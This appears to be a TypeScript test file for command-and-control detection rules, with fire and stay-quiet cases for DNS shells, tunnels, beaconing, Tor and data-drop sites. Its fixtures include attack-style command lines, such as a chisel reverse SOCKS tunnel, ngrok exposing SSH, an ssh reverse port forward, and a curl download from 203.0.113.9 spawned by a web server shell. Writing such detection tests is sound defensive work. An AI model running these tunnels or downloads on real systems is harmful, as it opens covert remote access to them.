import type { TestProcess } from '@ringfence/testkit';
import { asksFor } from './packets.ts';
import { NOBODY, type Scene, testContent } from './support.ts';

const started = (words: string) => (s: Scene) => s.start(words);

/** So many connections, `seconds` apart. */
function calls(s: Scene, process: TestProcess, count: number, seconds: number, address = '203.0.113.9'): void {
  for (let n = 0; n < count; n++) {
    s.connect(process, address, 443);
    s.ktime += seconds * 1_000_000;
  }
}

function texts(s: Scene, by: string, count: number, type: string): void {
  const process = s.start(by);
  for (let n = 0; n < count; n++) asksFor(s, process, `${n}.t.example`, type);
}

const raw = (by: string, protocol: number) => (s: Scene) => s.socket(s.start(by), { type: 3, protocol });
const listen = (by: string, address: string) => (s: Scene) =>
  s.socket(s.start(by), { operation: 3, result: 0, port: 4444, address: Buffer.from(address.split('.').map(Number)) });

testContent('tunnels.yaml', {
  'Answers taken from DNS texts': {
    as: 'warning command-and-control T1071.004',
    fires: { 'a shell by DNS': (s) => texts(s, '/tmp/x', 30, 'TXT') },
    quiet: {
      'twenty-nine': (s) => texts(s, '/tmp/x', 29, 'TXT'),
      addresses: (s) => texts(s, '/usr/bin/firefox', 90, 'A'),
      'a resolver': (s) => texts(s, '/usr/sbin/unbound', 90, 'TXT'),
    },
  },
  'Tunnel started': {
    as: 'warning command-and-control T1572',
    fires: {
      chisel: started('/tmp/chisel client 203.0.113.9:8080 R:socks'),
      ngrok: started('/usr/local/bin/ngrok tcp 22'),
    },
    quiet: {
      'a private network': started('/usr/sbin/openvpn --config x'),
      'its page': started('/usr/bin/curl https://x.example/chisel'),
    },
  },
  'Port made reachable from outside by SSH': {
    as: 'notice command-and-control T1572',
    fires: {
      'a port': started('/usr/bin/ssh -N -R 2222:localhost:22 x'),
      'a proxy': started('/usr/bin/ssh -fND 1080 x'),
    },
    quiet: {
      'a port of the other end': started('/usr/bin/ssh -L 5432:db:5432 x'),
      'a login': started('/usr/bin/ssh web-2'),
    },
  },
  'Hidden network used': {
    as: 'warning command-and-control T1090.003',
    fires: { tor: started('/tmp/tor -f x'), 'a name': (s) => asksFor(s, s.start('/usr/bin/curl x'), 'abcdef.onion') },
    quiet: {
      'its service': (s) => s.start('/usr/bin/tor -f /etc/tor/torrc', s.init),
      'another name': (s) => asksFor(s, s.start('/usr/bin/curl x'), 'onion.example'),
    },
  },
  'Socket of ICMP made by a stranger': {
    as: 'warning command-and-control T1095',
    fires: { 'a tunnel': raw('/tmp/x', 1), python: raw('/usr/bin/python3 x.py', 1) },
    quiet: { ping: raw('/usr/bin/ping x', 1), 'another protocol': raw('/tmp/x', 89) },
  },
  'Call home at regular times': {
    as: 'warning command-and-control T1071',
    fires: { 'each minute': (s) => calls(s, s.start('/tmp/x'), 12, 60) },
    quiet: {
      'eleven times': (s) => calls(s, s.start('/tmp/x'), 11, 60),
      'each hour': (s) => calls(s, s.start('/tmp/x'), 24, 3600),
      'a program that is installed': (s) => calls(s, s.start('/usr/bin/x'), 100, 5),
      'to its own house': (s) => calls(s, s.start('/tmp/x'), 100, 5, '10.0.0.1'),
    },
  },
  'Download at regular times': {
    as: 'notice command-and-control T1071.001',
    fires: {
      'each minute': (s) => {
        for (let n = 0; n < 30; n++) calls(s, s.start('/usr/bin/curl x'), 1, 60);
      },
    },
    quiet: {
      'each hour': (s) => calls(s, s.start('/usr/bin/curl x'), 40, 3600),
      'its own': (s) => calls(s, s.start('/usr/bin/curl x'), 100, 1, '127.0.0.1'),
    },
  },
  'Place to drop data asked for': {
    as: 'warning command-and-control exfiltration T1102 T1567',
    fires: { curl: (s) => asksFor(s, s.start('/usr/bin/curl x'), 'transfer.sh') },
    quiet: {
      'a browser': (s) => asksFor(s, s.start('/usr/bin/firefox'), 'pastebin.com'),
      'another name': (s) => asksFor(s, s.start('/usr/bin/curl x'), 'example.org'),
    },
  },
  'Download tool started by a server': {
    as: 'error command-and-control T1105',
    fires: {
      'through a shell': (s) =>
        s.start(
          '/usr/bin/curl http://203.0.113.9/x',
          s.start('/bin/sh -c x', s.start('/usr/sbin/httpd', s.init)),
          NOBODY,
        ),
    },
    quiet: {
      'itself is asked': (s) =>
        s.start('/usr/bin/curl http://localhost/', s.start('/bin/sh -c x', s.start('/usr/sbin/httpd', s.init))),
      'by a person': started('/usr/bin/curl http://203.0.113.9/x'),
    },
  },
  'Program in a scratch folder waits for callers': {
    as: 'warning command-and-control T1571',
    fires: { 'of everybody': listen('/tmp/x', '0.0.0.0') },
    quiet: { 'of itself': listen('/tmp/x', '127.0.0.1'), 'a server': listen('/usr/sbin/nginx', '0.0.0.0') },
  },
});
